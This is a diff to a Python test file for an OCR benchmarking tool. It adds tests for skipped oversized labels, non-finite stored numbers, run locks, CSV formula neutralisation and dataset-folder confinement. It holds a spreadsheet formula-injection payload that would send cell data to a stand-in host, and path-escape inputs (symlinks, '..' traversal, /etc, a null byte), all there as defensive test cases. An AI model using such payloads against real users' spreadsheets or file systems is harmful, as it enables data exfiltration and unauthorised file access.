@@ -6,7 +6,13 @@ a four-item pairs set drawn here, so every metric below is checked by hand.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
+import shutil
+import subprocess
+import sys
 import threading
 import time
 from collections.abc import Callable
@@ -15,19 +21,20 @@ from pathlib import Path
 import pytest
 from PIL import Image
 
-from models.config import REPO_ROOT, AppConfig, LoadedConfig, load_config
+from models.config import REPO_ROOT, AppConfig, BenchmarkDefaults, LoadedConfig, load_config
 from testkit.render import RECEIPT_LINES, encode, render_lines
-from utils.bench import store
+from utils.bench import store, views
 from utils.bench.compare import compare_runs
-from utils.bench.datasets import LabelledItem
+from utils.bench.datasets import MAX_LABEL_BYTES, LabelledItem
 from utils.bench.engines import BenchEngine, Prediction, create_bench_engine
 from utils.bench.metrics import METRICS, Metric, bootstrap_ci
-from utils.bench.plan import BenchRequest
+from utils.bench.plan import BenchRequest, dataset_roots, folder_within_roots
 from utils.bench.records import Summary
 from utils.bench.runner import run_benchmark
 from utils.bench.runs import open_run, rebuild_summary, rescore
 from utils.bench.scoring import build_summary
 from utils.errors import BadInput, ModelUnavailable
+from utils.spreadsheet import frame_csv
 
 TRUTH = {
     "a": ("HELLO WORLD", {"total": "10.00"}),
@@ -582,3 +589,168 @@ def test_rapidocr_through_the_pipeline(loaded: LoadedConfig, tmp_path: Path) -> 
     assert engine.source == "catalog" and engine.catalog_entry["backend"] == "rapidocr"
     assert engine.ocr_options and "engine_options" in engine.ocr_options
     assert manifest.versions["rapidocr"] and manifest.versions["onnxruntime"]
+
+
+# --------------------------------------------------------------------------- issue 14 defects
+
+
+def test_an_item_with_a_label_over_the_limit_is_skipped_and_the_run_goes_on(
+    loaded: LoadedConfig, tmp_path: Path, fakes: FakeEngines
+) -> None:
+    folder = write_pairs_set(tmp_path / "set", {"a": TRUTH["a"], "b": TRUTH["b"]})
+    (folder / "b.txt").write_text("WORD " * (MAX_LABEL_BYTES // 5 + 1), encoding="utf-8")
+    fakes.add(FakeEngine())
+
+    outcome = run_benchmark(loaded, request(folder), engine_factory=fakes)
+
+    records = {
+        r.item_id: r for r in store.read_items(loaded.config.data_dir, outcome.run_id).records
+    }
+    assert outcome.status == "complete" and records["a"].status == "ok"
+    assert records["b"].status == "skipped" and records["b"].truth_text is None
+    assert records["b"].message == "label over 1024 KB: b.txt"
+
+
+@pytest.mark.parametrize("number", ["Infinity", "-Infinity", "NaN", "1e999"])
+def test_non_finite_numbers_in_stored_records_are_skipped_and_rescore_works(
+    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines, number: str
+) -> None:
+    fakes.add(FakeEngine())
+    first = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
+    data_dir = loaded.config.data_dir
+    path = store.items_path(data_dir, first.run_id)
+    lines = path.read_text(encoding="utf-8").splitlines()
+    bad_seconds = re.sub(r'"seconds":[^,]+', f'"seconds":{number}', lines[0])
+    bad_metric = re.sub(r'"cer":[^,}]+', f'"cer":{number}', lines[1])
+    path.write_text("\n".join([bad_seconds, bad_metric, *lines[2:]]) + "\n", encoding="utf-8")
+
+    assert store.read_items(data_dir, first.run_id).bad_lines == 2
+    outcome = rescore(data_dir, first.run_id)
+
+    assert outcome.records == 2 and outcome.dropped_lines == 2
+    assert store.read_summary(data_dir, first.run_id) == outcome.summary
+    assert outcome.summary.items_recorded == 2
+    assert store.read_items(data_dir, first.run_id).bad_lines == 0
+
+
+def test_the_run_lock_lives_in_the_hidden_locks_folder_and_dies_with_its_runner(
+    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
+) -> None:
+    fakes.add(FakeEngine())
+    data_dir = loaded.config.data_dir
+    run_id = "20250101T000000Z-abcdef"
+    lock = store.run_lock_path(data_dir, run_id)
+    assert lock == store.run_dir(data_dir, run_id) / ".locks" / "run.lock"
+    holder = subprocess.Popen(
+        [sys.executable, "-c", HOLD_LOCK, str(lock)], stdout=subprocess.PIPE, text=True
+    )
+    try:
+        assert holder.stdout.readline() == "held\n"
+        assert store.is_running(data_dir, run_id)
+        with pytest.raises(BadInput, match="already running"):
+            run_benchmark(loaded, request(pairs_set, run_id=run_id), engine_factory=fakes)
+    finally:
+        holder.kill()  # a crashed runner: its lock is freed with it
+        holder.wait()
+
+    assert not store.is_running(data_dir, run_id)
+    outcome = run_benchmark(loaded, request(pairs_set, run_id=run_id), engine_factory=fakes)
+    assert outcome.status == "complete"
+    visible = sorted(p.name for p in store.run_dir(data_dir, run_id).iterdir())
+    assert visible == [".locks", "items.jsonl", "manifest.json", "state.json", "summary.json"]
+
+
+HOLD_LOCK = """
+import sys, time
+from filelock import FileLock
+lock = FileLock(sys.argv[1], timeout=0)
+lock.acquire()
+print("held", flush=True)
+time.sleep(60)
+"""
+
+
+def test_csv_exports_neutralise_formulas_in_names_headers_and_messages(
+    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
+) -> None:
+    payload = '=HYPERLINK("http://HOST/?x="&A1,"c")'
+    failing = fakes.add(FakeEngine(name="failing"))
+    failing.run = lambda item: (_ for _ in ()).throw(BadInput("@SUM(A1) " + item.item_id))
+    fakes.add(FakeEngine())
+    data_dir = loaded.config.data_dir
+    first = run_benchmark(loaded, request(pairs_set), engine_factory=fakes).run_id
+    second = run_benchmark(
+        loaded, request(pairs_set, engines=["failing"]), engine_factory=fakes
+    ).run_id
+    store.rename_run(data_dir, first, payload)
+
+    table = views.runs_table(store.list_bench_runs(data_dir))
+    runs = parse_csv(frame_csv(table))
+    board = parse_csv(frame_csv(views.leaderboard(table, "cer")))
+    compared = parse_csv(frame_csv(views.comparison_table(compare_runs(data_dir, [second, first]))))
+    items = parse_csv(frame_csv(views.items_table(open_run(data_dir, second))))
+
+    assert "'" + payload in [row[runs[0].index("name")] for row in runs]
+    assert "'" + payload in [row[board[0].index("name")] for row in board]
+    assert "'" + payload + " · fake" in compared[0]
+    assert {row[items[0].index("message")][:9] for row in items[1:]} == {"'@SUM(A1)"}
+    cells = [cell for rows in (runs, board, compared, items) for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]
+
+
+def parse_csv(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+# --------------------------------------------------------------------------- dataset roots
+
+
+def test_dataset_roots_default_to_the_data_folder_and_follow_the_profile(
+    loaded: LoadedConfig, tmp_path: Path
+) -> None:
+    assert dataset_roots(loaded.config) == [loaded.config.data_dir / "datasets"]
+    config = loaded.config.model_copy(
+        update={"benchmark": BenchmarkDefaults(dataset_roots=[tmp_path / "sets", Path("relative")])}
+    )
+    assert dataset_roots(config) == [tmp_path / "sets", REPO_ROOT / "relative"]
+
+
+def test_a_folder_must_resolve_inside_a_root(tmp_path: Path) -> None:
+    root = tmp_path / "roots" / "one"
+    (root / "receipts").mkdir(parents=True)
+    (tmp_path / "secret").mkdir()
+    (root / "escape").symlink_to(tmp_path / "secret", target_is_directory=True)
+    (tmp_path / "lookalike").symlink_to(root, target_is_directory=True)
+
+    assert folder_within_roots(str(root / "receipts"), [root]) == (root / "receipts").resolve()
+    assert folder_within_roots(str(root), [root]) == root.resolve()
+    assert folder_within_roots(str(tmp_path / "lookalike"), [root]) == root.resolve()
+    for outside in (
+        tmp_path / "secret",
+        root / "escape",
+        root / ".." / ".." / "secret",
+        tmp_path / "roots" / "one-more",
+        Path("/etc"),
+    ):
+        with pytest.raises(BadInput, match="not inside a dataset folder"):
+            folder_within_roots(str(outside), [root])
+    with pytest.raises(BadInput, match="built-in sample set only"):
+        folder_within_roots(str(root), [])
+    with pytest.raises(BadInput, match="not a usable folder path"):
+        folder_within_roots("bad\0name", [root])
+
+
+def test_requests_from_the_page_are_confined_to_the_roots_others_are_not(
+    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
+) -> None:
+    fakes.add(FakeEngine())
+    data_dir = loaded.config.data_dir
+    with pytest.raises(BadInput, match="not inside a dataset folder"):
+        run_benchmark(loaded, request(pairs_set, within_dataset_roots=True), engine_factory=fakes)
+    assert store.list_bench_runs(data_dir) == []
+
+    inside = data_dir / "datasets" / "four"
+    shutil.copytree(pairs_set, inside)
+    page_run = request(inside, within_dataset_roots=True)
+    assert run_benchmark(loaded, page_run, engine_factory=fakes).status == "complete"
+    assert run_benchmark(loaded, request(pairs_set), engine_factory=fakes).status == "complete"
